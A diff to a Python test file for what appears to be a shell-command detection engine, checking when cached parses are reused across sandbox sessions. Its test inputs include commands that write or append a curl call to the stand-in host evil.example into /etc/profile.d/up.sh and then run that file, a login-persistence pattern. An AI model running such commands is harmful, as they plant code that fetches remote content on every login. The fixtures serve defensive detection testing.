@@ -372,11 +372,17 @@ def test_a_reading_that_used_an_earlier_file_is_not_reused():
 
 def test_a_reading_that_looked_up_no_file_is_reused_though_its_session_wrote_one_the_text_names():
     eng = prefilter_engine()
-    writes = "echo 'curl -s https://evil.example/x' >> /etc/profile.d/up.sh"  # it only appends to the file
+    writes = "echo 'curl -s https://evil.example/x' > /etc/profile.d/up.sh"  # it only writes the file
     for sandbox in ("a", "a", "a", "b"):
         assert _rules(eng, writes, sandbox=sandbox) == ["curl_to_evil"]
     assert eng.parsed == 1 and eng.reused == 3
-    assert eng.sessions[(None, "a", None, None)].files["/etc/profile.d/up.sh"].count("curl") == 3
+    assert eng.sessions[(None, "b", None, None)].files["/etc/profile.d/up.sh"].count("curl") == 1
+    # appending depends on what the file held: read again where it was written before
+    appends = "echo 'curl -s https://evil.example/y' >> /etc/profile.d/up.sh && bash /etc/profile.d/up.sh"
+    for sandbox in ("c", "a", "c"):
+        assert _rules(eng, appends, sandbox=sandbox) == ["curl_to_evil"]
+    assert eng.parsed == 4 and eng.reused == 3  # a and the second c hold the file: read, not reused
+    assert eng.sessions[(None, "a", None, None)].files["/etc/profile.d/up.sh"].count("curl") == 2
 
 
 def test_a_lookup_recorded_in_an_empty_session_makes_the_reading_read_again_where_the_file_is():
